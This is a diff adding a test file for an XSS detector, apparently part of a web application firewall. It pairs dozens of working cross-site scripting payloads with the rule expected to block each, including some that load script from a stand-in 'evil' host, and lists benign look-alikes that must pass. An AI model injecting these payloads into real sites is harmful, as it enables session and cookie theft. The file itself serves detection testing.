@@ -1,0 +1,157 @@
+import { beforeAll, describe, expect, it } from "vitest";
+import fc from "fast-check";
+import { loadHarness, type Harness } from "../support/harness.js";
+
+// TargetKind values (assembly/engine/target.ts).
+const ARG = 2;
+const HEADER = 3;
+const BODY = 8;
+
+let h: Harness;
+beforeAll(async () => {
+  h = await loadHarness();
+});
+
+function xss(input: string, kind = ARG, paranoia = 1): { score: number; ids: number[] } {
+  const out = JSON.parse(h.callString("detectOne", "xss", input, kind, "args:q", paranoia));
+  return { score: out.score, ids: out.ids.map((m: { id: number }) => m.id) };
+}
+
+// Attacks: each must reach the blocking threshold (5) at paranoia 1, through the rule named.
+const attacks: [string, number][] = [
+  ["<script>alert(1)</script>", 3001],
+  ["<SCRIPT SRC=//evil.example/x.js></SCRIPT>", 3001],
+  ["<svg/onload=alert(1)>", 3002],
+  ["<img src=x onerror=alert(document.domain)>", 3002],
+  ["<svG/x=\">\"/oNloaD=confirm()//", 3002],
+  ["<x/Onpointerrawupdate=confirm&lpar;)>", 3002],
+  ["<details/open/ontoggle=\"x\">", 3002],
+  ["<iframe srcdoc=\"<img src=1 onerror=alert(1)>\"></iframe>", 3001],
+  ["<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">", 3001],
+  ["< x: script", 3001],
+  ["<f o r m action=x>", 3001],
+  ["<v:vmlframe src=\"foo.com/sup.fml\"/>", 3001],
+  ["<meta http-equiv=\"refresh\" content=\"0;url=//evil\">", 3001],
+  ["<base href=\"//evil/\">", 3001],
+  ["<link rel=import href=x.html>", 3001],
+  ["<embed src=\"deuce.swf\">", 3001],
+  ["<?import implementation=\"x.htc\">", 3001],
+  ["＜script＞alert(1)＜/script＞", 3001],
+  ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", 3001],
+  ["</script><script>alert(1)</script>", 3006],
+  ["</textarea><b>", 3006],
+  ["javascript:alert(1)", 3003],
+  ["jav&#x09;ascript:alert(1)", 3003],
+  ["ja&Tab;vascript&colon;alert(1)", 3003],
+  ["java\tscript:alert(1)", 3003],
+  ["&#106;avascript:alert(1)", 3003],
+  ["vbscript:msgbox(1)", 3003],
+  ["data:text/html;base64,PHNjcmlwdD4=", 3003],
+  [" data: , <x>", 3003],
+  ["\" onmouseover=alert(1) x=\"", 3004],
+  ["' autofocus onfocus=alert(1) '", 3004],
+  ["x\"//onfocus=prompt(1)>", 3004],
+  ["Mozilla/5.0 (compatible; onload=alert(document.domain))", 3004],
+  ["'formaction=//evil", 3004],
+  ["';alert(1)//", 3007],
+  ["'-alert(1)//", 3007],
+  ["(alert)(1)", 3007],
+  ["alert`1`", 3007],
+  ["prompt.call(null,1)", 3007],
+  ["eval(atob(\"YWxlcnQoKQ==\"))", 3007],
+  ["x\";setTimeout(name, 1)//", 3007],
+  ["new Function('alert(1)')()", 3007],
+  ["document.cookie", 3008],
+  ["document/*foo*/./*bar*/cookie", 3008],
+  ["window[\"alert\"](1)", 3008],
+  ["(document)[\"cookie\"]", 3008],
+  ["self[\"$\"][\"globalEval\"](\"alert(1)\")", 3008],
+  ["background:url(javascript:alert(1))", 3011],
+  ["STYLE=X:URL(JAVASCRIPT", 3011],
+  ["width: expression(alert(1))", 3011],
+  ["-moz-binding:url(http://x/xss.xml#xss)", 3011],
+  ["x {{constructor.constructor('alert(1)')()}} y", 3012],
+  ["(![]+[])[+!+[]]", 3013],
+  ["[].sort.call`${alert}1337`", 3014],
+  ["[  ] . sort . call ` ${ alert } 1337 `", 3014],
+  ["#@~^CAAAAA==C^+.D`8#mgIAAA==^#~@", 3018],
+  ["-->", 3019],
+];
+
+// Benign look-alikes: must stay below the threshold at paranoia 1.
+const benign: string[] = [
+  "a < b and c > d",
+  "I <3 this product",
+  "if (x<y && y>z) return 1;",
+  "Array<string> and Map<string, number>",
+  "List<Map<String, Object>>",
+  "Contact: John Smith <john.smith@example.com>",
+  "<https://www.gnu.org/licenses/gpl.html>",
+  "<Knghtbrd> hello there",
+  "2 < 3 > 1",
+  "JavaScript: Basics of JavaScript Language",
+  "The onion=layered vegetable",
+  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+  "https://example.com/search?q=onload&sort=asc",
+  "Please confirm your email address",
+  "The expression (a + b) * c is evaluated first",
+  "Expected behavior: the page loads",
+  "user@example.com",
+  "O'Brien said \"hello\"; then left",
+  "step 1 --> step 2",
+  "- [ ] todo\n- [x] done",
+  "[![Build Status](https://ci.example.com/badge.svg)](https://ci.example.com)",
+  "const ws = new WebSocket('wss://x');\nconsole.log('closed');\n  setTimeout(function timeout() {\n ws.send(1);\n }, 500);",
+  "app.get('/', function (req, res) { res.send('Hello') })",
+  "Use `{{ name }}` in the template to print the name",
+  "See document.pdf and window.png",
+  "Here's a video: <a href=\"https://www.youtube.com/watch?v=abc\">link</a>",
+  "<!-- eslint-disable no-undef -->",
+  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
+  "\"Chromium\";v=\"122\", \"Not(A:Brand\";v=\"24\"",
+  "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV_adQssw5c",
+];
+
+describe("xss detector", () => {
+  it.each(attacks)("blocks %j (rule %i)", (input, rule) => {
+    const r = xss(input);
+    expect(r.ids).toContain(rule);
+    expect(r.score).toBeGreaterThanOrEqual(5);
+  });
+
+  it.each(benign)("lets %j through", (input) => {
+    expect(xss(input).score).toBeLessThan(5);
+  });
+
+  it("finds attacks in headers like in arguments", () => {
+    expect(xss("Mozilla/5.0 <img onclick=alert(1)>", HEADER).ids).toContain(3002);
+  });
+
+  it("does not treat the markup of a whole XML body as injected HTML", () => {
+    const soap = '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><a b="c">x</a></soapenv:Body></soapenv:Envelope>';
+    expect(xss(soap, BODY).score).toBe(0);
+    expect(xss('<root><a href="x" onclick="alert(1)"/></root>', BODY).ids).toContain(3002);
+  });
+
+  it("scores a plain tag only at paranoia 2", () => {
+    expect(xss("<b>bold</b>", ARG, 1).score).toBe(0);
+    expect(xss("<b>bold</b>", ARG, 2).ids).toContain(3017);
+  });
+
+  it("never traps and stays bounded on random input", () => {
+    const alphabet = fc.constantFrom(..."<>/=\"'`&#;:({[]})!+-.\\ \t\nonscriptalertjavadocument{}x0\u00bc\u00ef".split(""));
+    fc.assert(
+      fc.property(fc.array(alphabet, { maxLength: 300 }).map((a) => a.join("")), (s) => {
+        const r = xss(s);
+        expect(r.score).toBeGreaterThanOrEqual(0);
+      }),
+      { numRuns: 300 },
+    );
+    fc.assert(
+      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
+        xss(Buffer.from(bytes).toString("latin1"));
+      }),
+      { numRuns: 200 },
+    );
+  });
+});
